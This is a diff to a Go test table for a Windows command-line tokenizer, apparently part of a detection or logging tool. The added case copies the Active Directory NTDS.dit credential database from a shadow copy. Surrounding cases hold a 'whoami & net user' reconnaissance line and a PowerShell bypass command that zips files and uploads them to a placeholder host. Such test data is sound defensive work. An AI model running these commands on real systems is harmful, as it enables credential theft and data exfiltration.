@@ -41,6 +41,10 @@ func TestCommands(t *testing.T) {
 		{`cmd /c "whoami & net user" > C:\1.txt`, []string{`cmd|/c|whoami & net user|>|C:\1.txt`, "whoami", "net|user"}},
 		// One quoted program with spaces is kept whole.
 		{`cmd /c "C:\Program Files\7-Zip\7z.exe"`, []string{`cmd|/c|C:\Program Files\7-Zip\7z.exe`, `C:\Program Files\7-Zip\7z.exe`}},
+		// Two quotes around a command that is no program file: stripped.
+		{`"C:\Windows\system32\cmd.exe" /c "copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit C:\Extract\ntds.dit"`,
+			[]string{`C:\Windows\system32\cmd.exe|/c|copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit C:\Extract\ntds.dit`,
+				`copy|\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit|C:\Extract\ntds.dit`}},
 		{`cmd /c copy a^&b c && xcopy d e`, []string{`cmd|/c|copy|a^&b|c|&&|xcopy|d|e`, `copy|a&b|c`, `xcopy|d|e`}},
 		{`powershell.exe -NoP -ep bypass -c "Compress-Archive -Path 'D:\a b\*' -DestinationPath C:\x.zip; iwr -Uri https://h/u -InFile C:\x.zip -Method Put"`,
 			[]string{`powershell.exe|-NoP|-ep|bypass|-c|Compress-Archive -Path 'D:\a b\*' -DestinationPath C:\x.zip; iwr -Uri https://h/u -InFile C:\x.zip -Method Put`,
